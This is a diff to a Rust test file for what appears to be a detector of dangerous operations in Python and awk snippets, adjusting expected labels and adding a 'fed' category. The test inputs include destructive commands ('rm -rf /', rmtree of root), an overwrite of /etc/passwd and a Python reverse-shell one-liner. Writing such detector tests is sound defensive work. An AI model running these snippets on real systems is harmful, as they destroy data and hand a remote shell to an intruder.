@@ -17,6 +17,7 @@ fn seen(language: &str, code: &str) -> Vec<String> {
         .iter()
         .map(|seen| match seen {
             Seen::Shell(text) => format!("shell {}", word(text)),
+            Seen::Fed(text) => format!("fed {}", word(text)),
             Seen::Command(words) => {
                 format!("command {}", words.iter().map(word).collect::<Vec<_>>().join(" "))
             }
@@ -42,7 +43,7 @@ fn python() {
     check("python", "import os; os.system('rm -rf /')", &["shell rm -rf /"]);
     check("python", "from os import system as s; s('rm -rf /')", &["shell rm -rf /"]);
     check("python", "import os as o; o.system('ls')", &["shell ls"]);
-    check("python", "__import__('os').system('ls')", &["shell ls"]);
+    check("python", "__import__('os').system('ls')", &["unseen", "shell ls"]);
     check("python", "import subprocess; subprocess.run(['rm', '-rf', '/'])", &["command rm -rf /"]);
     check("python", "import subprocess as sp\nsp.run('ls', shell=True)", &["shell ls"]);
     check("python", "import shutil; shutil.rmtree('/')", &["deletes-tree /"]);
@@ -76,7 +77,7 @@ fn python() {
     check(
         "python",
         "import socket,os,pty;s=socket.socket();s.connect((h,1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
-        &["sends ?", "shell /bin/sh", "way in"],
+        &["sends ?", "unseen", "way in"],
     );
 }
 
@@ -131,7 +132,7 @@ fn filters() {
     check("awk", "{print $1}", &[]);
     check("awk", "$3 > 5 {print}", &[]);
     check("awk", "BEGIN{system(\"rm -rf /\")}", &["shell rm -rf /"]);
-    check("awk", "{print | \"sh\"}", &["shell sh"]);
+    check("awk", "{print | \"sh\"}", &["fed sh"]);
     check("awk", "\"date\" | getline d", &["shell date"]);
     check("awk", "{print > \"/etc/passwd\"}", &["overwrites /etc/passwd"]);
     check("awk", "{if ($1 > 2) print $2}", &[]);
